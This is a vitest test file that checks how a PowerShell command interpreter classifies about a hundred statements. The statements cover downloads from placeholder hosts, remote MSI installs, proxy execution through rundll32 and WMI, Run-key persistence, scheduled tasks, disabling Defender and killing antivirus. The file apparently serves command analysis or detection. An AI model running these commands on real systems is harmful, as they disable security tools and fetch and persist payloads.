import { describe, expect, it } from 'vitest';
import { interpretCommand } from '../../src/commands/interpret-command.js';

/** What PowerShell does with a statement, by its documentation. */
const TABLE: readonly (readonly [statement: string, expected: Record<string, unknown>])[] = [
  [
    'iwr -UseBasicParsing http://a.invalid/x -OutFile C:\\x\\f',
    { kind: 'download', url: 'http://a.invalid/x', destination: 'C:\\x\\f' },
  ],
  ['iwr http://a.invalid/x -UseBasicParsing -O f', { kind: 'download', destination: 'f' }],
  ["Invoke-WebRequest -Uri 'http://a.invalid/x' -OutF 'f'", { kind: 'download', destination: 'f' }],
  [
    'Invoke-WebRequest -Method Get -Uri:http://a.invalid/x -OutFile:f',
    { kind: 'download', url: 'http://a.invalid/x', destination: 'f' },
  ],
  [
    "irm -Headers @{A='b'} http://a.invalid/x -OutFile f",
    { kind: 'download', url: 'http://a.invalid/x', destination: 'f' },
  ],
  ['wget http://a.invalid/x -OutFile f', { kind: 'download', destination: 'f' }],
  [
    'Start-BitsTransfer -Asynchronous http://a.invalid/x f',
    { kind: 'download', url: 'http://a.invalid/x', destination: 'f' },
  ],
  ['Start-BitsTransfer -Destination f -Source http://a.invalid/x', { kind: 'download', destination: 'f' }],
  ['Start-BitsTransfer -Priority High http://a.invalid/x f', { kind: 'download', destination: 'f' }],
  [
    "(New-Object Net.WebClient).DownloadFile('http://a.invalid/x','f')",
    { kind: 'download', destination: 'f' },
  ],
  ["Start-Process -Wait rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll', entryPoint: 'Go' }],
  ["Start-Process -NoNewWindow -Wait rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  [
    "Start-Process -Wait -FilePath rundll32.exe -ArgumentList 'a.dll,Go'",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  ["Start-Process rundll32 -Arg 'a.dll,Go' -Win Hidden", { kind: 'start-dll', dll: 'a.dll' }],
  ['Start-Process -WindowStyle Hidden rundll32 a.dll`,Go', { kind: 'start-dll', dll: 'a.dll' }],
  ["saps -Verb RunAs regsvr32 '/s','a.ocx'", { kind: 'start-dll', proxy: 'regsvr32', dll: 'a.ocx' }],
  [
    "start -PassThru msiexec '/i http://a.invalid/x /q'",
    { kind: 'msiexec-install', remote: true, quiet: true },
  ],
  [
    "Start-Process msiexec -ArgumentList '/i','http://a.invalid/x','/q' -Wait",
    { kind: 'msiexec-install', remote: true },
  ],
  ["Start-Process -FilePath:'msiexec' -Args:'/y C:\\x\\a.dll'", { kind: 'start-dll', proxy: 'msiexec' }],
  [
    "Start-Process -WorkingDirectory C:\\x z.exe '-o -P pw a.zip -d C:\\y'",
    { kind: 'unpack', password: 'pw', destination: 'C:\\y' },
  ],
  [
    'Start-Process -Wait \'C:\\x\\z.exe\' "x -ppw -oC:\\y a.zip"',
    { kind: 'unpack', password: 'pw', destination: 'C:\\y' },
  ],
  ['Expand-Archive -Force a.zip C:\\y', { kind: 'unpack', archive: 'a.zip', destination: 'C:\\y' }],
  [
    'Expand-Archive a.zip -DestinationPath C:\\y -Force',
    { kind: 'unpack', archive: 'a.zip', destination: 'C:\\y' },
  ],
  ['Expand-Archive -LiteralPath a.zip C:\\y', { kind: 'unpack', archive: 'a.zip', destination: 'C:\\y' }],
  ['Expand-Archive -Dest C:\\y -Path a.zip', { kind: 'unpack', archive: 'a.zip', destination: 'C:\\y' }],
  ['Copy-Item -Force a.txt b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['Copy-Item -Recurse -Path a.txt b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['cp a.txt b.exe -Force', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['Copy-Item -Destination b.exe a.txt', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['Move-Item -Force -LiteralPath a.txt -Dest b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['mv a.txt b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['Rename-Item a.txt -NewName b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['ren -Force a.txt b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['Remove-Item -Recurse -Force C:\\x', { kind: 'delete', target: 'C:\\x' }],
  ['ri C:\\x -Fo -Rec', { kind: 'delete', target: 'C:\\x' }],
  ['Remove-Item -Path C:\\x -Exclude *.log -Force', { kind: 'delete', target: 'C:\\x' }],
  ['Stop-Process -Force -Name avastui', { kind: 'kill', target: 'avastui' }],
  ['spps -Name avastui -Force', { kind: 'kill', target: 'avastui' }],
  ['kill -ProcessName avastui', { kind: 'kill', target: 'avastui' }],
  ['Stop-Service -Force WinDefend', { kind: 'service', action: 'stop', name: 'WinDefend' }],
  ['Start-Service x -PassThru', { kind: 'service', action: 'start', name: 'x' }],
  [
    'Set-Service -StartupType Disabled WinDefend',
    { kind: 'service', action: 'configure', name: 'WinDefend' },
  ],
  [
    'New-Service x C:\\x\\s.exe -StartupType Automatic',
    { kind: 'service', action: 'create', name: 'x', command: 'C:\\x\\s.exe' },
  ],
  [
    "New-Service -StartupType Automatic -BinaryPathName 'C:\\x\\s.exe -k' -Name x",
    { kind: 'service', name: 'x', command: 'C:\\x\\s.exe -k' },
  ],
  [
    "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run x 'C:\\x\\a.exe'",
    { kind: 'registry-write', valueName: 'x', data: 'C:\\x\\a.exe' },
  ],
  [
    'New-ItemProperty -Force -Path HKCU:\\A -Name x -PropertyType String -Value y',
    { kind: 'registry-write', valueName: 'x', data: 'y' },
  ],
  [
    'sp -Path HKCU:\\A -Name x -Type DWord -Value 1 -Force',
    { kind: 'registry-write', valueName: 'x', data: '1' },
  ],
  ['New-ItemProperty HKCU:\\A x -Value y -Force', { kind: 'registry-write', valueName: 'x', data: 'y' }],
  ['Add-MpPreference -ExclusionPath C:\\', { kind: 'security-exclusion' }],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', { kind: 'security-exclusion' }],
  [
    "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='rundll32 a.dll,Go'}",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  [
    'Invoke-CimMethod Win32_Process Create @{ CommandLine = "rundll32 a.dll,Go"; CurrentDirectory = \'C:\\\' }',
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  [
    "icim -Class Win32_Process -Method Create -Arg @{CurrentDirectory='C:\\';CommandLine='rundll32 a.dll,Go'}",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  [
    "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'rundll32 a.dll,Go'",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  [
    "(New-Object -ComObject WindowsInstaller.Installer).InstallProduct('http://host.invalid/a.msi', 'Q=1')",
    { kind: 'msiexec-install', url: 'http://host.invalid/a.msi', remote: true },
  ],
  ["iwmi win32_process create 'rundll32 a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  [
    "Invoke-WmiMethod -Path Win32_Process -Name Create -Arg 'rundll32 a.dll,Go'",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  ["([wmiclass]'Win32_Process').Create('rundll32 a.dll,Go')", { kind: 'start-dll', dll: 'a.dll' }],
  [
    "([wmiclass]'\\\\.\\root\\cimv2:Win32_Process').Create('rundll32 a.dll,Go')",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  ["(Get-WmiObject -List Win32_Process).Create('rundll32 a.dll,Go')", { kind: 'start-dll', dll: 'a.dll' }],
  ["(New-Object -ComObject WScript.Shell).Run('rundll32 a.dll,Go',0)", { kind: 'start-dll', dll: 'a.dll' }],
  ["(New-Object -Com WScript.Shell).Exec('rundll32 a.dll,Go')", { kind: 'start-dll', dll: 'a.dll' }],
  [
    "(New-Object -ComObject Shell.Application).ShellExecute('rundll32','a.dll,Go')",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  ["[Diagnostics.Process]::Start('rundll32','a.dll,Go')", { kind: 'start-dll', dll: 'a.dll' }],
  ["[System.Diagnostics.Process]::Start('C:\\x\\a.exe')", { kind: 'start-program', program: 'C:\\x\\a.exe' }],
  [
    "[Reflection.Assembly]::LoadFile('C:\\x\\a.dll')",
    { kind: 'start-dll', proxy: 'powershell', dll: 'C:\\x\\a.dll' },
  ],
  ["[Reflection.Assembly]::LoadFrom('C:\\x\\a.dll').EntryPoint", { kind: 'start-dll', dll: 'C:\\x\\a.dll' }],
  [
    "[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\\x\\a.dat'))",
    { kind: 'start-dll', dll: 'C:\\x\\a.dat' },
  ],
  [
    "[System.Reflection.Assembly]::UnsafeLoadFrom('C:\\x\\a.dll')",
    { kind: 'start-dll', dll: 'C:\\x\\a.dll' },
  ],
  ['Add-Type -Path C:\\x\\a.dll', { kind: 'start-dll', dll: 'C:\\x\\a.dll' }],
  ["Add-Type -PassThru -LiteralPath 'C:\\x\\a.dll'", { kind: 'start-dll', dll: 'C:\\x\\a.dll' }],
  ['Import-Module C:\\x\\a.dll', { kind: 'start-dll', dll: 'C:\\x\\a.dll' }],
  ['Import-Module -Force -Name C:\\x\\a.dll', { kind: 'start-dll', dll: 'C:\\x\\a.dll' }],
  ['ipmo -Global C:\\x\\a.dll', { kind: 'start-dll', dll: 'C:\\x\\a.dll' }],
  [
    "[IO.Compression.ZipFile]::ExtractToDirectory('a.zip','C:\\y')",
    { kind: 'unpack', archive: 'a.zip', destination: 'C:\\y' },
  ],
  [
    "Register-ScheduledTask -Force T -Action (New-ScheduledTaskAction -Execute rundll32 -Argument 'a.dll,Go')",
    { kind: 'scheduled-task', name: 'T', command: 'rundll32 a.dll,Go' },
  ],
  [
    "Register-ScheduledTask -TaskName T -Action (New-ScheduledTaskAction 'rundll32' 'a.dll,Go') -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
    { kind: 'scheduled-task', name: 'T', trigger: 'logon' },
  ],
  [
    'Register-ScheduledTask -Trigger (New-ScheduledTaskTrigger -Once -At 9am -RepetitionInterval (New-TimeSpan -Minutes 90)) -TaskName T',
    { kind: 'scheduled-task', name: 'T', intervalInMinutes: 90 },
  ],
  [
    "New-ScheduledTaskAction -Exec rundll32 -Arg 'a.dll,Go'",
    { kind: 'scheduled-task', command: 'rundll32 a.dll,Go' },
  ],
  ["& rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  ["& 'C:\\x\\z.exe' x -ppw -oC:\\y a.zip", { kind: 'unpack', password: 'pw' }],
  ["& { rundll32 'a.dll,Go' }", { kind: 'start-dll', dll: 'a.dll' }],
  ["cmd /c ('rundll32 '+'a.dll,Go')", { kind: 'start-dll', dll: 'a.dll' }],
  ["cmd /c ($d+'\\z.exe x -ppw -o'+$g+' '+$d+'\\a.zip')", { kind: 'unpack', password: 'pw' }],
  ['cmd.exe /c "rundll32 a.dll,Go"', { kind: 'start-dll', dll: 'a.dll' }],
  ["$p = Start-Process -PassThru rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  ['$null = Copy-Item -Force a.txt b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  ['Invoke-Item C:\\x\\a.exe', { kind: 'start-program', program: 'C:\\x\\a.exe' }],
  ['ii -Path C:\\x\\a.exe', { kind: 'start-program', program: 'C:\\x\\a.exe' }],
  [
    "Microsoft.PowerShell.Management\\Start-Process -Wait rundll32 'a.dll,Go'",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  ["Start-Process rundll32 -ArgumentList @('a.dll,Go')", { kind: 'start-dll', dll: 'a.dll' }],
  [
    "$a = @{FilePath='rundll32';ArgumentList='a.dll,Go'}; Start-Process @a -Wait",
    { kind: 'start-dll', dll: 'a.dll' },
  ],
  [
    "$u='http://a.invalid/x'; iwr $u -OutFile f -UseB",
    { kind: 'download', url: 'http://a.invalid/x', destination: 'f' },
  ],
  ["Start-Process -ErrorAction SilentlyContinue rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  ["Start-Process -EA 0 rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  ['Copy-Item -Verbose -Confirm:$false a.txt b.exe', { kind: 'copy', from: 'a.txt', to: 'b.exe' }],
  [
    "Expand-Archive -Path:'a b.zip' -DestinationPath:'C:\\y'",
    { kind: 'unpack', archive: 'a b.zip', destination: 'C:\\y' },
  ],
  ["Start-Process -LoadUserProfile -Wait:$true rundll32 'a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
  ['regsvr32 /s C:\\x\\a.ocx', { kind: 'start-dll', proxy: 'regsvr32', dll: 'C:\\x\\a.ocx' }],
  ['Remove-Service -Name x', { kind: 'service', action: 'delete', name: 'x' }],
];

describe('statements of PowerShell', () => {
  it.each(TABLE)('%s', (statement, expected) => {
    const meanings = interpretCommand(`powershell -nop -c "${statement.replaceAll('"', '\\"')}"`);
    expect(meanings).toContainEqual(expect.objectContaining(expected));
  });
});
